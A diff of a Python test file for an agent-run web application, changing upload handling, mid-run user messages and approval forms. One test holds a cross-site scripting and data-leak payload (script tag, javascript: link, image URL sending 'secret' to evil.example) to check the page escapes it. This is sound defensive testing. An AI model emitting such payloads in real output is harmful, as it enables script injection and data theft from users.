@@ -147,13 +147,13 @@ def test_what_agents_and_files_say_is_text_and_never_markup(acme):
         "<script>alert(1)</script> [go](javascript:alert(2)) ![p](https://evil.example/?q=secret) <img src=x>"
     )
     Scripted.play = staticmethod(in_order(say(evil)))
-    run = asked(client, f"goal {evil}", files=SimpleUploadedFile("a.md", evil.encode()))
+    run = asked(client, f"goal {evil}", attachments=SimpleUploadedFile("a.md", evil.encode()))
     executor.run(run.pk)
 
     html = page(client, "conversation", run.pk)
 
     assert "<script>alert" not in html and "<img src=x" not in html
-    assert 'href="javascript:' not in html and 'evil.example/?q=secret"' not in html
+    assert 'href="javascript:' not in html and 'src="https://evil' not in html
 
 
 def test_links_of_agents_open_apart_and_tell_nothing():
@@ -275,6 +275,37 @@ def test_a_word_in_between_reaches_the_run_at_work(acme):
     assert RunEvent.objects.filter(run=run, payload__content="In Chinese, please").exists()
 
 
+def test_a_word_in_between_is_read_by_the_group_at_work_and_by_the_agent(acme):
+    _, client = member(acme, "mia")
+    MemberFactory(group=acme.group, role__name="analyst", ordinal=1)
+    run = asked(client, "Compare prices")
+
+    def meanwhile(messages, facts):
+        client.post(reverse("web:send", args=[run.pk]), {"goal": "In dollars, please"})
+        return say("DECISION: 6 euros.")
+
+    def once_more(messages, facts):
+        heard.append([message.content for message in messages if message.role == "user"])
+        return say("DECISION: 7 dollars.")
+
+    heard = []
+    lead = [meanwhile, once_more]
+    others = by_role(
+        Personal_agent=[call(("escalate_to_group", {"goal": "Compare"})), say("Seven dollars.")],
+        analyst=[say("EVIDENCE: 6 euros")],
+    )
+    Scripted.play = staticmethod(
+        lambda messages, facts: (lead.pop(0) if facts["role"] == "lead" else others)(messages, facts)
+    )
+    executor.run(run.pk)  # the lead is the last to speak when the word comes
+
+    run.refresh_from_db()
+    assert heard == [["Compare", "[EVIDENCE] EVIDENCE: 6 euros", "In dollars, please"]]
+    assert Run.objects.get(parent_run=run).output == "DECISION: 7 dollars."
+    assert RunEvent.objects.filter(run=run, payload__content="In dollars, please").exists()
+    assert page(client, "conversation", run.pk).count("In dollars, please") == 1
+
+
 def test_stop_ends_it_and_asking_again_asks_the_same(acme):
     _, client = member(acme, "mia")
     run = asked(client, "Write a report", group=acme.group.pk)
@@ -332,7 +363,7 @@ def test_somebody_elses_memory_is_no_source(acme):
 
 def test_a_file_is_context_from_outside_and_not_the_persons_words(acme):
     _, client = member(acme, "mia")
-    run = asked(client, "Sum it up", files=SimpleUploadedFile("report.md", b"# Report\n\nSales fell."))
+    run = asked(client, "Sum it up", attachments=SimpleUploadedFile("report.md", b"# Report\n\nSales fell."))
     assert run.goal == "Sum it up"
     assert "## File: report.md" in run.context and "Sales fell." in run.context
     assert "Sales fell." not in RunEvent.objects.get(run=run, seq=2).payload["content"]
@@ -353,7 +384,7 @@ def test_a_file_is_context_from_outside_and_not_the_persons_words(acme):
 def test_a_file_that_cannot_be_taken_is_named_and_nothing_is_lost(acme, name, content, said):
     _, client = member(acme, "mia")
     answer = client.post(
-        reverse("web:ask"), {"goal": "Sum this up", "files": SimpleUploadedFile(name, content)}
+        reverse("web:ask"), {"goal": "Sum this up", "attachments": SimpleUploadedFile(name, content)}
     )
     html = answer.content.decode()
     assert answer.status_code == 422 and said in html and "Sum this up" in html
@@ -405,8 +436,9 @@ def test_other_arguments_are_approved_as_the_form_has_them(acme):
     _, approval = waiting_mail(acme, mia)
     from runs.admin import edit
 
-    form = {field.name: field.value for field in edit.fields(LETTER)}
-    number = next(field.name for field in edit.fields(LETTER) if field.label == "subject")
+    fields = edit.fields(approval.tool_call.effective_arguments)
+    form = {field.name: field.value for field in fields}
+    number = next(field.name for field in fields if field.label == "subject")
     said = {**form, number: "Costs", "decision": "approve_fields"}
     decider.post(
         reverse("web:approval", args=[approval.pk]), {**said, "arguments_digest": approval.arguments_digest}
